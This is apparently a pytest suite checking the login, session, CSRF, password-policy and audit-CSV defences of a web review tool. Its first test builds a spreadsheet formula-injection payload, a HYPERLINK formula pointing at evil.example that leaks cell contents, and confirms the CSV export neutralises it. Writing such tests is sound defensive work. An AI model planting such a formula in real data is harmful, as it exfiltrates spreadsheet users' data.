"""Accounts and the audit CSV under attack through the web app (issue 9, items 5 and 6)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from argon2 import PasswordHasher
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from conductlens.errors import ConductLensError
from conductlens.review import accounts, throttle
from conductlens.review.roles import Role
from conductlens.review.sample import PASSWORD, World
from conductlens.store import Store
from conductlens.store.tables_review import audit_events, users, web_sessions
from conductlens.store.tables_review import login_throttle as throttle_table

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_formula_typed_as_a_user_name_stays_text_in_the_audit_csv(
        app: FastAPI, login: Any, world: World) -> None:
    anonymous = TestClient(app, base_url="http://localhost")
    anonymous.post("/api/login", json={"username": HYPERLINK, "password": "x" * 12})
    auditor = login("auditor")
    response = auditor.get("/audit/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    failed = [r for r in rows if r["action"] == "login.failed"]
    assert failed and failed[-1]["username"] == "'" + HYPERLINK[:64]
    for row in rows:
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def _anonymous(app: FastAPI) -> TestClient:
    return TestClient(app, base_url="http://localhost", follow_redirects=False)


def _form_token(client: TestClient) -> str:
    match = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text)
    assert match
    return match.group(1)


def test_anonymous_failures_never_lock_admin(app: FastAPI, store: Store, world: World) -> None:
    now = datetime.now(UTC)
    for n in range(40):  # a botnet: many addresses, all guessing admin
        with pytest.raises((accounts.LoginRefused, accounts.LoginThrottled)):
            accounts.authenticate(store.engine, "admin", f"guess number {n}", now, f"10.1.0.{n}")
    with store.engine.connect() as conn:
        wait = throttle.wait_for(conn, "admin", "192.0.2.7", now)
    assert 0 < wait <= throttle.RULES[2].cap  # delayed at most a minute, never locked
    later = now + timedelta(seconds=wait + 1)
    assert accounts.authenticate(store.engine, "admin", PASSWORD, later, "192.0.2.7")


def test_one_address_trying_many_names_gets_429_with_retry_after(app: FastAPI,
                                                                 world: World) -> None:
    client = _anonymous(app)
    codes = []
    for n in range(40):  # 40 attempts over 8 names, as in the issue
        response = client.post("/api/login", json={"username": f"name{n % 8}",
                                                   "password": "not the password"})
        codes.append(response.status_code)
        if response.status_code == 429:
            assert int(response.headers["Retry-After"]) >= 1
            assert "not the password" not in response.text
    assert codes[:10] == [401] * 10 and 429 in codes
    # The form answers the same way.
    page = client.post("/login", data={"username": "admin", "password": PASSWORD,
                                       "csrf": _form_token(client)})
    assert page.status_code == 429 and "Retry-After" in page.headers


def test_every_outcome_runs_the_password_hash_exactly_once(
        store: Store, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    real = accounts._HASHER

    class Counting(PasswordHasher):
        def verify(self, hash: str | bytes, password: str | bytes) -> bool:  # noqa: A002
            calls.append("verify")
            return real.verify(hash, password)

    monkeypatch.setattr(accounts, "_HASHER", Counting(time_cost=1, memory_cost=64,
                                                      parallelism=1))
    accounts._dummy_hash()
    with store.engine.begin() as conn:
        conn.execute(update(users).where(users.c.username == "analyst").values(active=False))
    now = datetime.now(UTC)
    for name, password, address in [("nobody", PASSWORD, "a"), ("analyst", PASSWORD, "b"),
                                     ("auditor", "wrong password!", "c"),
                                     ("auditor", PASSWORD, "d")]:
        calls.clear()
        try:
            accounts.authenticate(store.engine, name, password, now, address)
        except accounts.LoginRefused as exc:
            assert str(exc) == accounts.REFUSED  # one wording for unknown, disabled, wrong
        assert calls == ["verify"], name
    for n in range(throttle.RULES[0].free):  # then the address backs off
        with pytest.raises(accounts.LoginRefused):
            accounts.authenticate(store.engine, f"x{n}", "wrong password!", now, "e")
    calls.clear()
    with pytest.raises(accounts.LoginThrottled):
        accounts.authenticate(store.engine, "auditor", PASSWORD, now, "e")
    assert calls == ["verify"]


@pytest.mark.parametrize(("password", "why"), [
    (" " * 10, "only spaces"), (" " * 14, "only spaces"), ("short pw", "12 characters"),
    ("Password2024!", "common or breached"), ("qwertyuiop123", "common or breached"),
    ("aaaaaaaaaaaaaaa", "different characters"), ("newcomer-secret-1", "user name"),
])
def test_the_password_policy(store: Store, world: World, password: str, why: str) -> None:
    with pytest.raises(ConductLensError, match=why) as refused:
        accounts.add_user(store.engine, "newcomer", password, Role.ANALYST)
    assert password.strip() == "" or password not in str(refused.value)


def test_sessions_end_after_their_absolute_lifetime(login: Any, store: Store,
                                                    world: World) -> None:
    client = login("auditor")
    assert client.get("/audit").status_code == 200
    with store.engine.begin() as conn:  # a busy session, signed in 30 days ago
        conn.execute(update(web_sessions).values(created_at=datetime.now(UTC) - timedelta(30)))
    assert client.get("/audit").status_code == 303
    now = datetime(2026, 1, 1, tzinfo=UTC)
    session = accounts.start_session(store.engine, world.users["auditor"], now)
    idle = timedelta(minutes=15)
    at = now
    for _ in range(40):  # touched every 14 minutes for over 9 hours
        at += timedelta(minutes=14)
        assert accounts.resume_session(store.engine, session.id, idle, at)
    assert accounts.resume_session(store.engine, session.id, idle, at + timedelta(hours=1)) is None


def test_sign_in_needs_the_form_token(app: FastAPI, world: World) -> None:
    client = _anonymous(app)
    forged = client.post("/login", data={"username": "auditor", "password": PASSWORD})
    assert forged.status_code == 403 and "cl_session" not in forged.headers.get("set-cookie", "")
    other = _anonymous(app)
    stolen = _form_token(other)  # a token from another browser does not match this cookie
    client.get("/login")
    assert client.post("/login", data={"username": "auditor", "password": PASSWORD,
                                       "csrf": stolen}).status_code == 403
    ok = client.post("/login", data={"username": "auditor", "password": PASSWORD,
                                     "csrf": _form_token(client)})
    assert ok.status_code == 303
    # The JSON sign-in takes JSON only, which a cross-site form cannot send.
    assert _anonymous(app).post("/api/login", data={"username": "auditor",
                                                    "password": PASSWORD}).status_code == 422


def test_validation_errors_never_echo_the_password(app: FastAPI, login: Any,
                                                   world: World) -> None:
    secret = "Sup3r-Secret-" + "x" * 300
    response = _anonymous(app).post("/api/login", json={"username": "auditor",
                                                        "password": secret})
    assert response.status_code == 422 and "Sup3r-Secret" not in response.text
    response = _anonymous(app).post("/api/login", json={"username": ["a"],
                                                        "password": "Sup3r-Secret-pw"})
    assert response.status_code == 422 and "Sup3r-Secret" not in response.text
    admin = login("admin")
    response = admin.post("/admin/users", data={"csrf": admin.csrf, "username": "Bad Name!",
                                                "password": "Sup3r-Secret-pw", "role": "analyst"})
    assert response.status_code == 400 and "Sup3r-Secret" not in response.text
    response = admin.post("/admin/users", data={"csrf": admin.csrf, "username": "newbie",
                                                "password": "password123456", "role": "analyst"})
    assert response.status_code == 400 and "password123456" not in response.text


def _actions(store: Store) -> list[str]:
    with store.engine.connect() as conn:
        return list(conn.scalars(select(audit_events.c.action).order_by(audit_events.c.id)))


def test_admins_unlock_disable_reset_and_change_roles_all_audited(
        app: FastAPI, login: Any, store: Store, world: World) -> None:
    admin, victim = login("admin"), login("analyst")
    base = "/admin/users/analyst"

    def post(action: str, **form: str) -> int:
        return admin.post(f"{base}/{action}", data={"csrf": admin.csrf, "reason": "Ticket 42",
                                                    **form}).status_code

    for n in range(6):
        _anonymous(app).post("/api/login", json={"username": "analyst", "password": f"no {n}"})
    assert "analyst" in admin.get("/admin/users").text
    assert post("unlock") == 303
    assert _anonymous(app).post("/api/login", json={"username": "analyst",
                                                    "password": PASSWORD}).status_code == 200
    assert post("disable") == 303
    assert victim.get("/cases").status_code == 303  # its session ended
    assert _anonymous(app).post("/api/login", json={"username": "analyst",
                                                    "password": PASSWORD}).status_code == 401
    assert post("enable") == 303
    assert post("password", password="a brand new passphrase") == 303
    assert _anonymous(app).post("/api/login", json={"username": "analyst", "password":
                                                    "a brand new passphrase"}).status_code == 200
    assert post("role", role="auditor") == 303
    assert {"user.unlock", "user.disable", "user.enable", "user.password.reset",
            "user.role"} <= set(_actions(store))
    # Nobody acts on their own account.
    own = admin.post("/admin/users/admin/disable", data={"csrf": admin.csrf,
                                                         "reason": "Ticket 43"})
    assert own.status_code == 400
    # And an investigator cannot reach any of it.
    inv = login("investigator")
    assert inv.post(f"{base}/unlock", data={"csrf": inv.csrf,
                                            "reason": "let me"}).status_code == 403


def test_parallel_failed_sign_ins_are_all_counted_and_answered(store: Store,
                                                               world: World) -> None:
    import threading

    outcomes: list[str] = []

    def attempt(n: int) -> None:
        try:
            accounts.authenticate(store.engine, "brand-new-name", f"guess {n}", None, "10.9.9.9")
        except (accounts.LoginRefused, accounts.LoginThrottled) as exc:
            outcomes.append(type(exc).__name__)
        except Exception as exc:  # noqa: BLE001 - a crash is what this test looks for
            outcomes.append(repr(exc))

    threads = [threading.Thread(target=attempt, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(set(outcomes)) <= ["LoginRefused", "LoginThrottled"] and len(outcomes) == 8
    with store.engine.connect() as conn:
        counted = conn.scalar(select(throttle_table.c.failures).where(
            throttle_table.c.kind == "account", throttle_table.c.username == "brand-new-name"))
    assert counted == outcomes.count("LoginRefused")
